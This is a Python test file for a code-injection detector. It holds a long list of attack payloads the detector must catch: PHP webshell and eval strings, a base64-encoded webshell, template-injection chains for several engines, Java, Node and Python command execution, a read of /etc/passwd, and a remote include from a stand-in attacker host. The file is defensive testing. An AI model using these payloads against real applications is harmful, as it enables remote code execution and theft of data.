"""What a detector of code finds, and what it lets people write."""

import pytest
from everyday import EVERYDAY
from hostile import HOSTILE
from hypothesis import given, settings
from hypothesis import strategies as st

from troth.engines.seclang.detect import code

ATTACKS = (
    b"process.kill() ends a thing\n;require('child_process').exec('id')",
    # PHP's indirect calls
    b"$z(7)",
    b"@$q['r'](7)",
    b"$$z('id')",
    b"${'z'}('id')",
    b"$q[@r]/* x */['s'] (7);",
    b"$o->$m()",
    b"K::$m('x')",
    b"(passthru)('id')",
    b"[exec][0](id)",
    b"(pas.(sth).ru)('id')",
    b"(string)'exec'('id')",
    b"$m = 'pass' . 'thru'; ($m)('id')",
    b";python -c 'import os; os.system(\"id\")'",
    b"data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    b"{{''.__class__.__mro__[1].__subclasses__()}}",
    b"{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    b"{% for c in [].__class__.__base__.__subclasses__() %}x{% endfor %}",
    b'$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")',
    b"*{T(java.lang.Runtime).getRuntime().exec('id')}",
    b"${T(java.lang.System).getenv()}",
    (
        b'__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id")'
        b".getInputStream()).next()}__::.x"
    ),
    (
        b"${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRu"
        b'ntime().exec("id").getInputStream()))}'
    ),
    b"{system('id')}",
    b"<%= system('id') %>",
    b"{{constructor.constructor('alert(1)')()}}",
    (
        b"{{range.constructor(\"return global.process.mainModule.require('child_"
        b"process').execSync('id')\")()}}"
    ),
    b"${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    b"<?php system($_GET['c']); ?>",
    b"<?php phpinfo();",
    b"<?=`id`?>",
    b"phpinfo()",
    b";phpinfo();",
    b"';phpinfo();//",
    b"${@phpinfo()}",
    b"${@print(md5(31337))}",
    b"{${phpinfo()}}",
    b"print(md5(31337));",
    b"eval($_POST['x'])",
    b"assert($_REQUEST[1]);",
    b'system("id");',
    b"exec('whoami')",
    b"';system('id');'",
    b"require('child_process').execSync('id')",
    b"process.mainModule.require('child_process')",
    b"global.process.mainModule.constructor._load('child_process').exec('id')",
    b"__import__('os').system('id')",
    b"eval(compile('x','','exec'))",
    b"os.system('id')",
    b"().__class__.__bases__[0].__subclasses__()",
    b"\";__import__('os').popen('id').read()",
    b"IO.popen('id').read",
    b'java.lang.Runtime.getRuntime().exec("id")',
    b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    b'new java.lang.ProcessBuilder(new String[]{"id"}).start()',
    b"(function(){return process.env})()",
    b'this.constructor.constructor("return process")()',
    b"file_get_contents('/etc/passwd')",
    b"include('http://evil.example/x.txt');",
    b"{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
    (
        b"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java"
        b'.net.URL ["http://x"]]]]'
    ),
)
HARMLESS = (
    b"print(1)",
    b"Please call exec(utive) office",
    b"a system (a good one)",
    b"function f() { return 1 }",
    b'x = open("file.txt")',
    b"what does eval mean?",
    b"the java.lang.String class",
    b"if (a) { b(); }",
)


BRACKETS = (
    b"$AUD (Australian), $US (500)",
    b"Hello ${name} (you)",
    b"[the system](docs.html)",
    b"[exec summary](/files/3)",
    b"(yes)(no)",
    b"phpinfo() tells me nothing new",
    b"The `process.kill()` method sends a signal",
)


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_are_found(value: bytes):
    assert code.find(value)


@pytest.mark.parametrize("value", [*HARMLESS, *EVERYDAY, *BRACKETS])
def test_what_people_write_passes(value: bytes):
    assert code.find(value) is None


@given(
    st.binary(max_size=200)
    | st.sampled_from(ATTACKS).flatmap(
        lambda a: st.binary(max_size=8).map(lambda b: a[:40] + b + a[40:])
    )
)
@settings(max_examples=150, deadline=None)
def test_it_never_raises(value: bytes):
    assert code.find(value) is None or isinstance(code.find(value), str)


@pytest.mark.parametrize("unit", HOSTILE)
def test_hostile_values_come_to_an_end(unit: bytes):
    value = unit * (16384 // len(unit))

    assert code.recognise(value) == code.recognise(value)
